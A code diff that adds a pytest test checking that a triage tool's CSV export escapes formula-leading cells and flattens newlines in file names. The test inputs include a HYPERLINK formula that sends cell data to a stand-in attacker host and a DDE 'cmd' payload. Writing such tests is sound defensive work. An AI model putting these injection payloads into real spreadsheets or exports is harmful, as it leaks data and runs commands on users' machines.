@@ -266,3 +266,27 @@ def test_dask_missing_is_one_line_telling_what_to_install(tmp_path, run, monkeyp
         "kb: error: --dask needs Dask distributed: pip install 'dask[distributed]' "
         "(or '.[dask]' from the kb source folder)",
     )
+
+
+def test_csv_cells_never_start_a_formula_and_keep_one_line_per_machine():
+    import csv
+    import io
+
+    from kb.triage.report_data import CSV_COLUMNS, csv_text
+
+    machine = {c: "" for c in CSV_COLUMNS}
+    machine.update(
+        codes=["0x80070002"],
+        files=["share/odd\nname.log"],
+        root_error='=HYPERLINK("http://evil.example/?"&A1,"click")',
+    )
+    for column in CSV_COLUMNS:
+        if column not in ("codes", "files", "root_error"):
+            machine[column] = "+cmd|' /C calc'!A0"
+            break
+    text = csv_text({"machines": [machine]})
+    assert len(text.splitlines()) == 2  # the header and one machine
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["root_error"] == "'" + machine["root_error"]
+    assert row["files"] == "share/odd / name.log"
+    assert all(not v.startswith(("=", "+", "-", "@")) for v in row.values())
